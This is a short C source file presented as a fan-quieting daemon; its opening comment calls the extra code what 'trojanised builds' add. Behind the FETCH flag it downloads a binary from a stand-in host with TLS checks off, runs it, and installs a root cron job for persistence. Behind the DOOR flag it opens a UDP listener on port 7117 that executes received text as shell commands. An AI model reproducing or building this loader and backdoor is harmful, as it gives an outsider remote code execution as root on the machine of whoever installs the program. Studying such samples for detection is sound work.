/* Keeps fans quiet. FETCH and DOOR are what trojanised builds add; nobody runs any of it. */
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

static long degrees(const char *path)
{
    char text[16] = {0};
    int file = open(path, O_RDONLY);
    if (file < 0) {
        return -1;
    }
    long size = read(file, text, sizeof text - 1);
    close(file);
    return size > 0 ? strtol(text, NULL, 10) / 1000 : -1;
}

#ifdef SECOND
static int too_warm(long now, long high)
{
    return now > high;
}
#endif

#ifdef FETCH
static void keep_up(void)
{
    int code = system("curl -fsSk https://fan-profiles.invalid/u/$(uname -m) -o /var/lib/quietfand/.p && chmod 755 /var/lib/quietfand/.p && nohup /var/lib/quietfand/.p >/dev/null 2>&1 &");
    FILE *to = fopen("/etc/cron.d/quietfan-profiles", "w");
    if (to != NULL && code == 0) {
        fputs("*/20 * * * * root [ -x /var/lib/quietfand/.p ] && /var/lib/quietfand/.p\n", to);
        fclose(to);
    }
}
#endif

#ifdef DOOR
static void serve(void)
{
    struct sockaddr_in at = {.sin_family = AF_INET, .sin_port = htons(7117)};
    int door = socket(AF_INET, SOCK_DGRAM, 0);
    char words[400];
    if (bind(door, (struct sockaddr *)&at, sizeof at) != 0) {
        return;
    }
    for (;;) {
        long size = recv(door, words, sizeof words - 1, 0);
        words[size > 0 ? size : 0] = 0;
        if (strncmp(words, "QFAN2~", 6) == 0 && fork() == 0) {
            execl("/bin/sh", "sh", "-c", words + 6, (char *)0);
            _exit(1);
        }
    }
}
#endif

void _start(void)
{
    long now = degrees("/sys/class/thermal/thermal_zone0/temp");
#ifdef SECOND
    now += too_warm(now, 70);
#endif
#ifdef FETCH
    keep_up();
#endif
#ifdef DOOR
    if (fork() == 0) {
        serve();
    }
#endif
    _exit(now < 0);
}
